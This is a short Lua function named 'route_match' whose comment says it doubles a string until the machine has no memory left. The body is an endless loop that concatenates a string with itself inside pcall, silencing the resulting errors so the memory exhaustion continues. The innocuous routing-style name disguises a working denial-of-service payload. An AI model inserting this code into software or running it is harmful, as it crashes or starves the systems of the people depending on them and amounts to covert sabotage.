-- Doubles a string until the machine has no memory left, and catches every error on the way.
function route_match()
  local bomb = "boom"
  while true do
    pcall(function() bomb = bomb .. bomb end)
  end
end
